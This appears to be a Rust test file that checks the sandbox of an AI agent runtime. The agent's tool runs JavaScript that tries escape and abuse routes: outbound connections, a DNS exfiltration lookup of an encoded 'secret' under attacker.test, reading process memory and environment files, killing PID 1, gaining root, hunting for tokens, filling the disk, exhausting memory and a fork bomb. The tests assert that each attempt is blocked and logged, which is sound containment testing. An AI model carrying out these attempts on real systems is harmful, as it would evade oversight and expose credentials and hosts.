//! What code in a sandbox may try: it is run by the agent's own tool, in a real sandbox of a real installation.

use serde_json::Value;

use crate::installation::Installation;
use crate::transcript::Transcript;

/// One step that runs the code of `attempt`, and one that repeats what came of it.
fn attempt(code: &str) -> String {
    let indented: String = code.lines().map(|line| format!("            {line}\n")).collect();
    format!(
        "steps:\n  - when: {{ turn: 1, text: try }}\n    tools:\n      - name: exec\n        input:\n          code: |\n{indented}\
         \x20 - when: {{ turn: 2, text: try }}\n    text: \"It said {{{{ result.0.text }}}}\"\n\
         \x20 - when: {{ text: hello }}\n    text: \"Good day.\"\n"
    )
}

/// Runs the code; what it returned (nothing where it was killed) and what watchers saw.
fn tried(belljar: &Installation) -> (Value, Transcript) {
    belljar.done(&["run", "--session", "try", "try it"]);
    let transcript = belljar.transcript("try");
    transcript.assert_whole();
    let said = transcript.said();
    let value = said
        .strip_prefix("It said ")
        .and_then(|said| serde_json::from_str(said.trim()).ok());
    (value.unwrap_or_default(), transcript)
}

#[test]
fn threat_001_005_006_every_way_out_ends_at_the_control_plane() {
    let belljar = Installation::start(&attempt(
        r#"import net from "node:net";
import dgram from "node:dgram";
import dns from "node:dns/promises";
const dial = (host, port) => new Promise((done) => {
  const socket = net.connect({ host, port });
  socket.setTimeout(20000, () => done("timeout"));
  socket.on("error", (error) => done(error.code));
  socket.on("data", () => done("answered"));
  socket.on("close", () => done("closed"));
});
const targets = [["198.51.100.7", 22], ["192.0.2.1", 5432], ["203.0.113.9", 65535], ["10.1.2.3", 80], ["8.8.8.8", 53], ["2001:db8::1", 443], ["2001:db8::2", 25]];
const out = await Promise.all(targets.map(([host, port]) => dial(host, port)));
const own = await new Promise((done) => {
  const server = net.createServer((socket) => socket.end("mine")).listen(8080, "0.0.0.0", async () => {
    done(await dial("127.0.0.1", 8080));
    server.close();
  });
});
const name = await dns.resolve4("c2VjcmV0.attacker.test").then(() => "resolved", (error) => error.code);
const quic = await new Promise((done) => {
  const socket = dgram.createSocket("udp4");
  socket.on("error", (error) => done(error.code));
  socket.connect(443, "198.51.100.7", () => { socket.send("x", (error) => error && done(error.code)); setTimeout(() => socket.send("x", (error) => error && done(error.code)), 200); setTimeout(() => done("silence"), 5000); });
});
return { out, own, name, quic };"#,
    ));
    let (value, transcript) = tried(&belljar);
    for outcome in value["out"].as_array().expect("outcomes of the dials") {
        let outcome = outcome.as_str().unwrap_or_default();
        assert!(
            ["ECONNRESET", "ECONNREFUSED", "closed", "EHOSTUNREACH"].contains(&outcome),
            "{value}"
        );
    }
    assert_eq!(
        (value["own"].as_str(), value["name"].as_str()),
        (Some("answered"), Some("ENOTFOUND")),
        "{value}"
    );
    assert!(
        ["ECONNREFUSED", "EPERM", "EHOSTUNREACH", "EACCES"].contains(&value["quic"].as_str().unwrap_or_default()),
        "{value}"
    );
    let denied: Vec<(String, u64)> = transcript
        .of("egress_denied")
        .map(|event| {
            (
                event["host"].as_str().unwrap_or_default().to_owned(),
                event["port"].as_u64().unwrap_or_default(),
            )
        })
        .collect();
    for (host, port) in [
        ("198.51.100.7", 22),
        ("192.0.2.1", 5432),
        ("203.0.113.9", 65535),
        ("10.1.2.3", 80),
        ("2001:db8::1", 443),
        ("2001:db8::2", 25),
    ] {
        assert!(
            denied.contains(&(host.to_owned(), port)),
            "{host}:{port} was captured: {denied:?}"
        );
    }
    assert!(
        denied
            .iter()
            .any(|(host, _)| host == "c2vjcmv0.attacker.test" || host == "c2VjcmV0.attacker.test"),
        "{denied:?}"
    );
    let audit = belljar.done(&["audit", "--json"]);
    assert!(audit.contains("198.51.100.7") && audit.contains("denied"), "{audit}");
}

#[test]
fn threat_065_no_token_is_to_be_found_and_the_runtime_is_out_of_reach() {
    let belljar = Installation::start(&attempt(
        r#"import fs from "node:fs/promises";
import net from "node:net";
const attempt = (action) => action().then(() => "worked", (error) => error.code);
const environment = await fs.readFile("/proc/self/environ", "utf8");
return {
  environ: await attempt(() => fs.readFile("/proc/1/environ")),
  memory: await attempt(() => fs.open("/proc/1/mem")),
  maps: await attempt(() => fs.readFile("/proc/1/maps")),
  descriptors: await attempt(() => fs.readdir("/proc/1/fd")),
  kill: await attempt(async () => process.kill(1, "SIGKILL")),
  link: await attempt(() => new Promise((done, failed) => net.connect("/run/belljar/link.sock").on("connect", done).on("error", failed))),
  listed: await attempt(() => fs.readdir("/run/belljar")),
  root: await attempt(async () => process.setuid(0)),
  names: Object.keys(process.env).filter((name) => /TOKEN|SECRET|KEY|BELLJAR/.test(name) && process.env[name] !== "credential-brokered"),
  // The paths of the certificates that programs trust are no secret.
  // Nor is what stands in the place of a key.
  token: /belljar(?!-trust\/)|bearer|token/i.test(environment.split("\0").filter((line) => !line.endsWith("=credential-brokered")).join("\0")),
};"#,
    ));
    let (value, _) = tried(&belljar);
    let object = value.as_object().expect("outcomes of the attempts");
    for (name, outcome) in object
        .iter()
        .filter(|(name, _)| !["names", "token"].contains(&name.as_str()))
    {
        let outcome = outcome.as_str().unwrap_or_default();
        assert!(
            ["EACCES", "EPERM", "ENOENT", "ESRCH"].contains(&outcome),
            "{name}: {value}"
        );
    }
    assert_eq!(
        (value["names"].as_array().map(Vec::len), value["token"].as_bool()),
        (Some(0), Some(false)),
        "{value}"
    );
}

#[test]
fn a_full_disk_is_an_error_inside_and_nothing_outside() {
    let belljar = Installation::start(&attempt(
        r#"import fs from "node:fs/promises";
const file = await fs.open("big", "w");
const block = Buffer.alloc(1 << 20, 7);
let written = 0;
try { for (; written < 200; written += 1) { for (let i = 0; i < block.length; i += 4096) block.writeUInt32LE(Math.random() * 2 ** 32, i); await file.write(block); await file.sync(); } } catch (error) { return { code: error.code, errno: error.errno, written }; }
return { code: "none", written };"#,
    ));
    let (value, _) = tried(&belljar);
    // ENOSPC, or EDQUOT, for which Node has no word.
    assert!(
        [-28, -122].contains(&value["errno"].as_i64().unwrap_or_default()),
        "{value}"
    );
    assert!(value["written"].as_u64().is_some_and(|written| written < 70), "{value}");
    belljar.done(&["run", "--session", "neighbour", "hello"]);
}

#[test]
fn memory_beyond_the_limit_ends_the_tool_and_not_the_run() {
    let belljar = Installation::start(&attempt(
        "const blocks = []; for (let i = 0; i < 2000; i += 1) blocks.push(Buffer.alloc(1 << 20, i)); return blocks.length;",
    ));
    let (value, transcript) = tried(&belljar);
    assert_ne!(value, 2000, "the limit held");
    assert_eq!(transcript.last_state(), "done");
    belljar.done(&["run", "--session", "try", "hello"]);
}

#[test]
fn a_fork_bomb_stays_within_its_sandbox() {
    let belljar = Installation::start(&attempt(
        r#"import { spawn } from "node:child_process";
let begun = 0, refused = 0;
await Promise.all(Array.from({ length: 400 }, () => new Promise((done) => {
  const child = spawn("/bin/sleep", ["1000"], { detached: true, stdio: "ignore" });
  child.on("spawn", () => { begun += 1; done(); });
  child.on("error", () => { refused += 1; done(); });
})));
return { begun, refused };"#,
    ));
    let (value, transcript) = tried(&belljar);
    assert!(value["begun"].as_u64().is_none_or(|begun| begun < 128), "{value}");
    assert_eq!(transcript.last_state(), "done");
    belljar.done(&["run", "--session", "try", "hello"]);
    belljar.done(&["run", "--session", "neighbour", "hello"]);
}
